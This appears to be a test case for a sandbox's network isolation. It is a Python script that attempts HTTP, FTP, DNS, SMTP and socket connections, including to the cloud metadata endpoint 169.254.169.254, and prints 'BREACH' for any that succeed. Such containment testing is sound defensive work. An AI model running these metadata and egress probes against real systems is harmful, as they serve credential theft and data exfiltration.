# attack: fetches over http and ftp, asks for names, sends what it has to a server outside
# outcome: ok
# violation: socket
import http.client
import smtplib
import socket
import urllib.request

socket.setdefaulttimeout(1)
for url in ("http://127.0.0.1:47113/", "http://169.254.169.254/latest/meta-data/",
            "http://192.0.2.1/", "http://localhost:47113/?answer=42", "ftp://127.0.0.1:47113/x"):
    try:
        urllib.request.urlopen(url, timeout=1)
        print("BREACH fetched", url)
    except OSError as error:
        if "timed out" in str(error) or isinstance(error, http.client.RemoteDisconnected):
            print("BREACH reached", url)
for name in ("example.com", "deb.debian.org", "metadata.google.internal"):
    try:
        print("BREACH resolved", name, socket.getaddrinfo(name, 80)[0])
    except OSError:
        pass
try:
    query = bytes.fromhex("1234010000010000000000000161046b65657002696e0000010001")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(query, ("127.0.0.1", 47113))
    print("BREACH asked a name server")
except OSError:
    pass
for make in (lambda: http.client.HTTPConnection("127.0.0.1", 47113).connect(),
             lambda: smtplib.SMTP("127.0.0.1", 47113, timeout=1)):
    try:
        make()
        print("BREACH connected")
    except TimeoutError:
        print("BREACH connected, nobody answered")
    except OSError:
        pass
print("contained")
